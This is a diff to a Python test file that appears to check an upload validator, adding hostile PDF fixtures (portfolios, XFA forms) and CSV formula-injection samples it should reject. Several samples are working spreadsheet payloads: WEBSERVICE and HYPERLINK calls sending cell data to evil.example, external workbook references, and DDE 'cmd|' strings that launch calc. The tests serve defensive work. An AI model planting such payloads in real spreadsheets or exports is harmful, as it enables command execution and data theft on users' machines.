@@ -5,6 +5,8 @@ import struct
 import zipfile
 import zlib
 
+import pikepdf
+
 from tests.files import (
     WORD,
     docx,
@@ -67,9 +69,35 @@ def flood():
 
 
 def encrypted(**passwords):
-    import pikepdf
-
     return pdf(encryption=pikepdf.Encryption(**passwords))
+
+
+def portfolio():
+    """A cover, and the files that it is about."""
+
+    def change(made):
+        made.attachments["minutes.txt"] = b"The minutes"
+        made.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)
+
+    return pdf(change=change)
+
+
+def drawn_form():
+    """“Please wait”: what is to be read is drawn by a program from the data."""
+
+    def change(made):
+        made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.String("<xdp>data</xdp>"))
+
+    return pdf(change=change)
+
+
+def asked_form():
+    def change(made):
+        box = made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("a")))
+        made.Root.AcroForm = pikepdf.Dictionary(Fields=[box], XFA=pikepdf.String("<xdp/>"))
+        made.Root.NeedsRendering = True
+
+    return pdf(change=change)
 
 
 def tall_tower():
@@ -91,6 +119,13 @@ FORMULAS = {
     "a formula behind a line of an old Mac": b"a,b\n1,2\r=1+1,3\n",
     "a formula in wide letters": "a,b\n1,2\n\uff1dcmd,3\n".encode(),
     "a formula after a hard blank": "a,b\n1,2\n\u00a0=1+1,3\n".encode(),
+    "a function after a sign": b'a,b\n1,2\n-HYPERLINK("http://evil.example/"&A1),3\n',
+    "a function in another language": b"a,b\n1,2\n+WEBDIENST(A1),3\n",
+    "a function after a blank": b'a,b\n1,2\n"-1+WEBSERVICE (""http://evil.example/"")",3\n',
+    "a function of a function": b"a,b\n1,2\n-1+WEBSERVICE (CONCATENATE (A1)),3\n",
+    "a cell of another book": b"a,b\n1,2\n+[evil.xlsx]Sheet1!A1,3\n",
+    "a cell of a file on the web": b"a,b\n1,2\n+'http://evil.example/a.ods'#$Sheet1.A1,3\n",
+    "a program without quotes": b"a,b\n1,2\n-1+cmd|x!A0,3\n",
     "a formula after a number": b"a;b\n1;2\n-1,2*WEBSERVICE(A1);3\n",
 }
 
@@ -200,7 +235,10 @@ HOSTILE = {
     "locked word": ("plan.docx", OLD_OFFICE, "has a password or is in an older format"),
     "rich text": ("plan.rtf", b"{\\rtf1}", "older format"),
     "a locked pdf": ("plan.pdf", lambda: encrypted(user="secret"), LOCKED),
-    "a pdf with rights": ("plan.pdf", lambda: encrypted(owner="secret"), LOCKED),
+    "a portfolio": ("plan.pdf", portfolio, "is a portfolio"),
+    "a form that a program draws": ("plan.pdf", drawn_form, "is a form that only some programs"),
+    "a form whose program is asked": ("a.pdf", asked_form, "is a form that only some programs"),
+    "a pdf with two passwords": ("a.pdf", lambda: encrypted(owner="a", user="b"), LOCKED),
     "half of a pdf": ("plan.pdf", b"%PDF-1.7\n1 0 obj", BROKEN),
     "a pdf of nothing": ("plan.pdf", pdf(0), "has no pages"),
     "a pdf of towers": ("plan.pdf", tall_tower, BROKEN),
@@ -214,7 +252,7 @@ HOSTILE = {
     "a gif": ("photo.gif", picture("GIF"), "type of picture we cannot accept"),
     "a gif as png": ("photo.png", picture("GIF"), "is not a PNG picture"),
     "a gif and a jar": ("photo.jpg", picture("GIF") + zipped([("a", "a")]), "is not a JPEG"),
-    "a tiff": ("photo.tif", picture("TIFF"), "type of picture we cannot accept"),
+    "a tiff": ("photo.tif", picture("TIFF"), "can have several pages. Save it as a PDF"),
     "a formula": ("list.csv", b"name,sum\nA,=cmd|' /C calc'!A0\n", "a formula in row 2"),
     "a formula after at": ("list.csv", b"@SUM(1+1)*cmd|' /C calc'!A0", "formula in row 1"),
     "a formula after plus": ("list.csv", b"a;+cmd|' /C calc'!A0", "formula in row 1"),
